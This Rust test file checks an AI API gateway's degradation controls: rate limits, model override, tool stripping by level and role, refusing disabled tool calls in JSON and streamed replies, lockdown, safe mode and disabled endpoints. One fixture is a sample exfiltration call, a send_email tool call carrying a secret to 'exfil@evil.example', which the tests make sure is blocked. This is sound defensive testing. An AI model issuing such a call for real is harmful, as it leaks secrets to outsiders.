//! Data-plane integration tests, part 3: degradation levels and switches as the client and the
//! provider see them — rate limits, model override, tools stripped by level, role and switch, tool
//! calls refused in JSON and streamed responses, lockdown, safe mode and disabled endpoints.

mod common;
mod upstream;

use std::collections::BTreeMap;

use serde_json::{json, Value};
use upstream::gw::*;
use upstream::*;

const CHAT: &str = "/v1/chat/completions";
const MESSAGES: &str = "/v1/messages";
const RESPONSES: &str = "/v1/responses";

fn with_tools(mut body: Value, tools: Value) -> Value {
    body["tools"] = tools;
    body
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rate_limit_of_the_level_gives_429_with_retry_after() {
    let (up, gw) = setup("[levels.normal]\nrequests_per_minute = 3\n").await;
    for i in 0..3 {
        let g = call(&gw, CHAT, &chat_body("gpt-4o", false)).await;
        assert_eq!(g.status, 200, "request {i} is within the limit: {}", g.text);
    }
    let g = call(&gw, CHAT, &chat_body("gpt-4o", false)).await;
    assert_openai_error(&g, 429);
    let retry: u64 = g.header("retry-after").and_then(|v| v.parse().ok()).expect("Retry-After in seconds");
    assert!((1..=60).contains(&retry), "Retry-After {retry}");
    let g = call(&gw, MESSAGES, &messages_body("claude-sonnet-4", true)).await;
    assert_anthropic_error(&g, 429);
    assert!(g.header("retry-after").is_some());
    // Limits are per user: bob is unaffected.
    let g = send(post(&client(), &gw, CHAT, Auth::Bearer(BOB), &chat_body("gpt-4o", false))).await;
    assert_eq!(g.status, 200, "{}", g.text);
    assert_eq!(up.count(), 4, "refused requests never reach the provider");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn critical_level_overrides_the_model_and_strips_all_tools() {
    let (up, gw) = setup("[levels.critical]\nmodel = \"small\"\n").await;
    let mut req = with_tools(chat_body("gpt-4o", false), openai_tools(&["get_weather", "search_docs"]));
    req["tool_choice"] = json!({"type": "function", "function": {"name": "get_weather"}});
    req["parallel_tool_calls"] = json!(true);
    // Normal: as requested.
    assert_eq!(call(&gw, CHAT, &req).await.status, 200);
    let r = up.last().json();
    assert_eq!(r["model"], "gpt-4o");
    assert_eq!(tool_names(&r), vec!["get_weather", "search_docs"]);

    flip(&gw, json!([{"action": "set_level", "level": "critical"}])).await;
    let g = call(&gw, CHAT, &req).await;
    assert_eq!(g.status, 200, "{}", g.text);
    let r = up.wait_requests(2).await.remove(1).json();
    assert_eq!(r["model"], "small", "the provider is asked for the constrained model");
    assert!(r.get("tools").is_none(), "no tools at critical: {r}");
    assert!(
        r.get("tool_choice").is_none() && r.get("parallel_tool_calls").is_none(),
        "tool options go with the tools: {r}"
    );
    assert_eq!(r["messages"], req["messages"], "the conversation itself is untouched");

    let areq = with_tools(messages_body("claude-opus-4", true), anthropic_tools(&["get_weather"]));
    up.push(Reply::sse(&anthropic_sse(&["ok"], "small"), Chunking::Whole));
    let g = call(&gw, MESSAGES, &areq).await;
    assert_eq!(g.status, 200, "{}", g.text);
    let r = up.wait_requests(3).await.remove(2).json();
    assert_eq!(r["model"], "small");
    assert!(r.get("tools").is_none(), "{r}");
    assert_eq!(r["stream"], true);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn elevated_level_keeps_only_tools_without_side_effects() {
    let (up, gw) = setup("").await;
    let names = ["get_weather", "send_email", "undeclared_tool", "search_docs"];
    let req = with_tools(chat_body("gpt-4o", false), openai_tools(&names));
    assert_eq!(call(&gw, CHAT, &req).await.status, 200);
    assert_eq!(tool_names(&up.last().json()), names, "normal: every tool");

    flip(&gw, json!([{"action": "set_level", "level": "elevated"}])).await;
    assert_eq!(call(&gw, CHAT, &req).await.status, 200);
    assert_eq!(
        tool_names(&up.wait_requests(2).await[1].json()),
        vec!["get_weather", "search_docs"],
        "side effects or undeclared: stripped"
    );
    let areq = with_tools(messages_body("claude-sonnet-4", false), anthropic_tools(&names));
    up.push(Reply::json(&anthropic_json("ok", "claude-sonnet-4")));
    assert_eq!(call(&gw, MESSAGES, &areq).await.status, 200);
    assert_eq!(tool_names(&up.wait_requests(3).await[2].json()), vec!["get_weather", "search_docs"]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn role_tool_allowlist_strips_other_tools() {
    let (up, gw) = setup("").await;
    let req = with_tools(chat_body("gpt-4o", false), openai_tools(&["search_docs", "get_weather", "send_email"]));
    let g = send(post(&client(), &gw, CHAT, Auth::Bearer(BOB), &req)).await;
    assert_eq!(g.status, 200, "{}", g.text);
    assert_eq!(tool_names(&up.wait_requests(1).await[0].json()), vec!["search_docs"], "analyst: search_* only");
    let g = send(post(&client(), &gw, CHAT, Auth::Bearer(ALICE), &req)).await;
    assert_eq!(g.status, 200);
    assert_eq!(tool_names(&up.wait_requests(2).await[1].json()).len(), 3, "developer: every tool");
}

const ALLOWED: Call = Call { id: "call_w1", name: "get_weather", args: r#"{"city":"Zürich","unit":"celsius"}"# };
const BLOCKED: Call =
    Call { id: "call_e2", name: "send_email", args: r#"{"to":"exfil@evil.example","body":"SECRET-PAYLOAD-42"}"# };

/// The client must never see the refused call's name as a call, nor its arguments.
fn assert_blocked_call_invisible(text: &str) {
    for needle in ["exfil@evil.example", "SECRET-PAYLOAD-42", "call_e2", "\"name\":\"send_email\""] {
        assert!(!text.contains(needle), "the refused call leaked `{needle}` to the client:\n{text}");
    }
    assert!(text.contains("send_email") && text.contains("blocked"), "a notice takes the call's place:\n{text}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn disable_tool_strips_requests_and_refuses_calls_in_json_responses() {
    let (up, gw) = setup("").await;
    let chat_reply = chat_tool_json(&[ALLOWED, BLOCKED], "gpt-4o");
    let msg_reply = anthropic_tool_json(&[ALLOWED, BLOCKED], "claude-sonnet-4");
    // Before the switch the calls pass untouched.
    up.push(Reply::json(&chat_reply));
    let g = call(&gw, CHAT, &chat_body("gpt-4o", false)).await;
    assert_eq!(g.json(), chat_reply);

    flip(&gw, json!([{"action": "disable_tool", "tool": "send_email"}])).await;
    let req = with_tools(chat_body("gpt-4o", false), openai_tools(&["get_weather", "send_email"]));
    up.push(Reply::json(&chat_reply));
    let g = call(&gw, CHAT, &req).await;
    assert_eq!(g.status, 200, "{}", g.text);
    assert_eq!(
        tool_names(&up.wait_requests(2).await[1].json()),
        vec!["get_weather"],
        "the disabled tool is not offered"
    );
    let v = g.json();
    assert_blocked_call_invisible(&g.text);
    let calls = v["choices"][0]["message"]["tool_calls"].as_array().expect("the allowed call remains");
    assert_eq!(
        calls,
        &vec![chat_reply["choices"][0]["message"]["tool_calls"][0].clone()],
        "the allowed call arrives whole and unchanged"
    );
    assert_eq!(v["choices"][0]["finish_reason"], "tool_calls");
    assert_eq!(v["usage"], chat_reply["usage"], "the rest of the response is kept");

    // Only refused calls: a plain answer with the notice.
    up.push(Reply::json(&chat_tool_json(&[BLOCKED], "gpt-4o")));
    let g = call(&gw, CHAT, &chat_body("gpt-4o", false)).await;
    assert_blocked_call_invisible(&g.text);
    let v = g.json();
    assert!(v["choices"][0]["message"].get("tool_calls").is_none(), "{v}");
    assert_eq!(v["choices"][0]["finish_reason"], "stop");

    // Anthropic.
    let areq = with_tools(messages_body("claude-sonnet-4", false), anthropic_tools(&["send_email", "get_weather"]));
    up.push(Reply::json(&msg_reply));
    let g = call(&gw, MESSAGES, &areq).await;
    assert_eq!(g.status, 200, "{}", g.text);
    assert_eq!(tool_names(&up.wait_requests(4).await[3].json()), vec!["get_weather"]);
    assert_blocked_call_invisible(&g.text);
    let v = g.json();
    let content = v["content"].as_array().expect("content");
    assert_eq!(content.len(), 3, "blocks keep their positions: {v}");
    assert_eq!(content[0], msg_reply["content"][0]);
    assert_eq!(content[1], msg_reply["content"][1], "the allowed tool_use block is unchanged");
    assert_eq!(content[2]["type"], "text");
    assert_eq!(v["stop_reason"], "tool_use", "a call remains, so the turn still ends in tool_use");

    up.push(Reply::json(&anthropic_tool_json(&[BLOCKED], "claude-sonnet-4")));
    let g = call(&gw, MESSAGES, &messages_body("claude-sonnet-4", false)).await;
    assert_blocked_call_invisible(&g.text);
    assert_eq!(g.json()["stop_reason"], "end_turn");
}

/// Reassembles streamed chat tool calls: index → (id, name, arguments).
fn chat_calls(events: &[SseEvent]) -> BTreeMap<u64, (String, String, String)> {
    let mut out: BTreeMap<u64, (String, String, String)> = BTreeMap::new();
    for v in events.iter().filter_map(SseEvent::json) {
        for c in v.pointer("/choices/0/delta/tool_calls").and_then(Value::as_array).into_iter().flatten() {
            let e = out.entry(c["index"].as_u64().expect("index")).or_default();
            if let Some(id) = c["id"].as_str() {
                e.0 += id;
            }
            if let Some(n) = c.pointer("/function/name").and_then(Value::as_str) {
                e.1 += n;
            }
            if let Some(a) = c.pointer("/function/arguments").and_then(Value::as_str) {
                e.2 += a;
            }
        }
    }
    out
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn disable_tool_refuses_streamed_chat_tool_calls() {
    let (up, gw) = setup("").await;
    flip(&gw, json!([{"action": "disable_tool", "tool": "send_email"}])).await;
    for chunking in [Chunking::Whole, Chunking::Awkward] {
        // Allowed call first: its events must arrive byte for byte.
        let sent = chat_tool_sse(&[ALLOWED, BLOCKED], "gpt-4o");
        up.push(Reply::sse(&sent, chunking));
        let g = call(&gw, CHAT, &chat_body("gpt-4o", true)).await;
        assert_eq!(g.status, 200);
        assert_blocked_call_invisible(&g.text);
        // Argument deltas pass the redaction hold-back and may be regrouped across events: the
        // reassembled call (id, name, arguments) is compared byte for byte below.
        let events = parse_sse(&g.text);
        let calls = chat_calls(&events);
        assert_eq!(calls.len(), 1, "{calls:?}");
        assert_eq!(calls[&0], (ALLOWED.id.into(), ALLOWED.name.into(), ALLOWED.args.into()));
        assert!(chat_stream_text(&events).contains("send_email"), "the notice is streamed as text");
        assert_eq!(events.last().and_then(|e| e.data.as_deref()), Some("[DONE]"));

        // Refused call first: the allowed one still arrives whole (renumbered to index 0).
        up.push(Reply::sse(&chat_tool_sse(&[BLOCKED, ALLOWED], "gpt-4o"), chunking));
        let g = call(&gw, CHAT, &chat_body("gpt-4o", true)).await;
        assert_blocked_call_invisible(&g.text);
        let calls = chat_calls(&parse_sse(&g.text));
        assert_eq!(
            calls.into_values().collect::<Vec<_>>(),
            vec![(ALLOWED.id.into(), ALLOWED.name.into(), ALLOWED.args.into())]
        );

        // Only the refused call: the turn ends as a normal answer.
        up.push(Reply::sse(&chat_tool_sse(&[BLOCKED], "gpt-4o"), chunking));
        let g = call(&gw, CHAT, &chat_body("gpt-4o", true)).await;
        assert_blocked_call_invisible(&g.text);
        let events = parse_sse(&g.text);
        assert!(chat_calls(&events).is_empty());
        let finish: Vec<_> = events
            .iter()
            .filter_map(SseEvent::json)
            .filter_map(|v| v.pointer("/choices/0/finish_reason").and_then(Value::as_str).map(str::to_owned))
            .collect();
        assert_eq!(finish, vec!["stop"], "no `tool_calls` finish without a call");
    }
}

/// Reassembles streamed Anthropic tool_use blocks: index → (id, name, input JSON text).
fn anthropic_calls(events: &[SseEvent]) -> BTreeMap<u64, (String, String, String)> {
    let mut out = BTreeMap::new();
    for v in events.iter().filter_map(SseEvent::json) {
        let i = v["index"].as_u64().unwrap_or(u64::MAX);
        match v["type"].as_str() {
            Some("content_block_start") if v["content_block"]["type"] == "tool_use" => {
                let b = &v["content_block"];
                out.insert(
                    i,
                    (
                        b["id"].as_str().unwrap_or("").to_owned(),
                        b["name"].as_str().unwrap_or("").to_owned(),
                        String::new(),
                    ),
                );
            }
            Some("content_block_delta") => {
                if let (Some(p), Some(e)) = (v.pointer("/delta/partial_json").and_then(Value::as_str), out.get_mut(&i))
                {
                    e.2 += p;
                }
            }
            _ => {}
        }
    }
    out
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn disable_tool_refuses_streamed_anthropic_tool_use() {
    let (up, gw) = setup("").await;
    flip(&gw, json!([{"action": "disable_tool", "tool": "send_email"}])).await;
    for chunking in [Chunking::Whole, Chunking::Awkward] {
        let sent = anthropic_tool_sse(&[ALLOWED, BLOCKED], "claude-sonnet-4");
        up.push(Reply::sse(&sent, chunking));
        let g = call(&gw, MESSAGES, &messages_body("claude-sonnet-4", true)).await;
        assert_eq!(g.status, 200);
        assert_blocked_call_invisible(&g.text);
        // Argument deltas pass the redaction hold-back and may be regrouped across events: the
        // reassembled call (id, name, arguments) is compared byte for byte below.
        let events = parse_sse(&g.text);
        let calls = anthropic_calls(&events);
        assert_eq!(
            calls.into_values().collect::<Vec<_>>(),
            vec![(ALLOWED.id.into(), ALLOWED.name.into(), ALLOWED.args.into())]
        );
        assert!(anthropic_stream_text(&events).contains("send_email"), "the notice is a text block");
        let stop: Vec<_> = events
            .iter()
            .filter_map(SseEvent::json)
            .filter_map(|v| v.pointer("/delta/stop_reason").and_then(Value::as_str).map(str::to_owned))
            .collect();
        assert_eq!(stop, vec!["tool_use"]);
        assert_eq!(events.last().and_then(|e| e.name.as_deref()), Some("message_stop"));
        // Every started block is stopped, indexes unchanged.
        let starts: Vec<_> = events
            .iter()
            .filter_map(SseEvent::json)
            .filter(|v| v["type"] == "content_block_start")
            .map(|v| v["index"].clone())
            .collect();
        let stops: Vec<_> = events
            .iter()
            .filter_map(SseEvent::json)
            .filter(|v| v["type"] == "content_block_stop")
            .map(|v| v["index"].clone())
            .collect();
        assert_eq!(starts, vec![json!(0), json!(1), json!(2)]);
        assert_eq!(starts, stops);

        up.push(Reply::sse(&anthropic_tool_sse(&[BLOCKED], "claude-sonnet-4"), chunking));
        let g = call(&gw, MESSAGES, &messages_body("claude-sonnet-4", true)).await;
        assert_blocked_call_invisible(&g.text);
        let events = parse_sse(&g.text);
        assert!(anthropic_calls(&events).is_empty());
        let stop: Vec<_> = events
            .iter()
            .filter_map(SseEvent::json)
            .filter_map(|v| v.pointer("/delta/stop_reason").and_then(Value::as_str).map(str::to_owned))
            .collect();
        assert_eq!(stop, vec!["end_turn"]);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn lockdown_refuses_every_ai_request_with_503() {
    let (up, gw) = setup("").await;
    flip(&gw, json!([{"action": "set_level", "level": "lockdown"}])).await;
    for (path, body) in [
        (CHAT, chat_body("gpt-4o", false)),
        (CHAT, chat_body("gpt-4o", true)),
        (RESPONSES, responses_body("gpt-4o", true)),
        (MESSAGES, messages_body("claude-sonnet-4", true)),
    ] {
        let g = call(&gw, path, &body).await;
        assert_error(path, &g, 503);
        assert!(g.header("retry-after").is_some());
    }
    assert_eq!(up.count(), 0, "nothing reaches the provider in lockdown");
    flip(&gw, json!([{"action": "set_level", "level": "normal"}])).await;
    assert_eq!(
        call(&gw, CHAT, &chat_body("gpt-4o", false)).await.status,
        200,
        "lifting the lockdown takes effect at once"
    );
    assert_eq!(up.count(), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn safe_mode_answers_without_contacting_the_upstream() {
    let (up, gw) = setup("").await;
    flip(&gw, json!([{"action": "safe_mode", "enabled": true}])).await;

    let g = call(&gw, CHAT, &with_tools(chat_body("gpt-4o", false), openai_tools(&["send_email"]))).await;
    assert_eq!(g.status, 200, "{}", g.text);
    let v = g.json();
    assert_eq!(v["object"], "chat.completion");
    assert_eq!(v["choices"][0]["message"]["role"], "assistant");
    assert_eq!(v["choices"][0]["message"]["content"], SAFE_REPLY);
    assert_eq!(v["choices"][0]["finish_reason"], "stop");

    let g = call(&gw, CHAT, &chat_body("gpt-4o", true)).await;
    assert_eq!(g.status, 200);
    assert!(g.header("content-type").is_some_and(|c| c.starts_with("text/event-stream")));
    let events = parse_sse(&g.text);
    assert_eq!(chat_stream_text(&events), SAFE_REPLY);
    assert_eq!(events.last().and_then(|e| e.data.as_deref()), Some("[DONE]"));
    assert!(events.iter().filter_map(SseEvent::json).all(|v| v["object"] == "chat.completion.chunk"));

    let g = call(&gw, MESSAGES, &messages_body("claude-sonnet-4", false)).await;
    assert_eq!(g.status, 200);
    let v = g.json();
    assert_eq!(v["type"], "message");
    assert_eq!(v["role"], "assistant");
    assert_eq!(v["content"][0]["type"], "text");
    assert_eq!(v["content"][0]["text"], SAFE_REPLY);
    assert_eq!(v["stop_reason"], "end_turn");

    let g = call(&gw, MESSAGES, &messages_body("claude-sonnet-4", true)).await;
    assert_eq!(g.status, 200);
    let events = parse_sse(&g.text);
    let names: Vec<_> = events.iter().map(|e| e.name.clone().unwrap_or_default()).collect();
    assert_eq!(names.first().map(String::as_str), Some("message_start"));
    assert_eq!(names.last().map(String::as_str), Some("message_stop"));
    assert!(
        events.iter().all(|e| e.json().is_some_and(|v| Some(v["type"].as_str().unwrap_or("")) == e.name.as_deref())),
        "event names match their data types"
    );
    assert_eq!(anthropic_stream_text(&events), SAFE_REPLY);

    let g = call(&gw, RESPONSES, &responses_body("gpt-4o", true)).await;
    assert_eq!(g.status, 200);
    assert_eq!(responses_stream_text(&parse_sse(&g.text)), SAFE_REPLY);

    assert_eq!(up.count(), 0, "the model is never asked in safe mode");
    flip(&gw, json!([{"action": "safe_mode", "enabled": false}])).await;
    up.push(Reply::json(&chat_json("from the model", "gpt-4o")));
    let g = call(&gw, CHAT, &chat_body("gpt-4o", false)).await;
    assert_eq!(g.json()["choices"][0]["message"]["content"], "from the model");
    assert_eq!(up.count(), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn disable_endpoint_gives_403_for_that_endpoint_only() {
    let (up, gw) = setup("").await;
    flip(&gw, json!([{"action": "disable_endpoint", "endpoint": "chat_completions"}])).await;
    let g = call(&gw, CHAT, &chat_body("gpt-4o", true)).await;
    assert_openai_error(&g, 403);
    up.push(Reply::json(&anthropic_json("still here", "claude-sonnet-4")));
    let g = call(&gw, MESSAGES, &messages_body("claude-sonnet-4", false)).await;
    assert_eq!(g.status, 200, "other endpoints keep working: {}", g.text);

    flip(&gw, json!([{"action": "disable_endpoint", "endpoint": "messages"}])).await;
    let g = call(&gw, MESSAGES, &messages_body("claude-sonnet-4", false)).await;
    assert_anthropic_error(&g, 403);
    assert_eq!(up.count(), 1);

    flip(&gw, json!([{"action": "enable_endpoint", "endpoint": "chat_completions"}])).await;
    assert_eq!(call(&gw, CHAT, &chat_body("gpt-4o", false)).await.status, 200);
    assert_eq!(up.count(), 2);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn lockdown_cuts_streams_in_flight_with_a_terminal_error_event() {
    use futures_util::StreamExt;
    let (up, gw) = setup("").await;
    for (path, body, sent) in [
        (CHAT, chat_body("gpt-4o", true), chat_sse(&["one ", "two ", "three"], "gpt-4o")),
        (
            MESSAGES,
            messages_body("claude-sonnet-4", true),
            anthropic_sse(&["one ", "two ", "three"], "claude-sonnet-4"),
        ),
    ] {
        let events: Vec<String> = parse_sse(&sent).into_iter().map(|e| e.raw).collect();
        let release = std::sync::Arc::new(tokio::sync::Notify::new());
        up.push(Reply::sse_chunks(events.clone()).with_gate(0, release.clone()));
        let resp = post(&client(), &gw, path, auth_for(path, ALICE), &body).send().await.expect("stream");
        assert_eq!(resp.status(), 200);
        let mut stream = resp.bytes_stream();
        let mut buf = Vec::new();
        let deadline = tokio::time::Instant::now() + std::time::Duration::from_secs(10);
        while buf.len() < events[0].len() {
            let chunk = tokio::time::timeout_at(deadline, stream.next()).await.expect("first event in time");
            buf.extend_from_slice(&chunk.expect("more body").expect("chunk"));
        }
        flip(&gw, json!([{"action": "set_level", "level": "lockdown"}])).await;
        // The provider is still holding the stream open; the gateway must end it on its own.
        loop {
            match tokio::time::timeout_at(deadline, stream.next()).await.expect("the stream ends within the deadline") {
                None => break,
                Some(c) => buf.extend_from_slice(&c.expect("a clean end, not a torn connection")),
            }
        }
        let got = parse_sse(&String::from_utf8_lossy(&buf));
        assert_eq!(got.len(), 2, "{path}: the first event, then the terminal error: {got:#?}");
        let v = got[1].json().expect("error JSON");
        if path == MESSAGES {
            assert_eq!(got[1].name.as_deref(), Some("error"));
            assert_eq!(v["type"], "error");
        } else {
            assert!(v["error"]["message"].is_string(), "{v}");
        }
        release.notify_one();
        flip(&gw, json!([{"action": "set_level", "level": "normal"}])).await;
    }
}
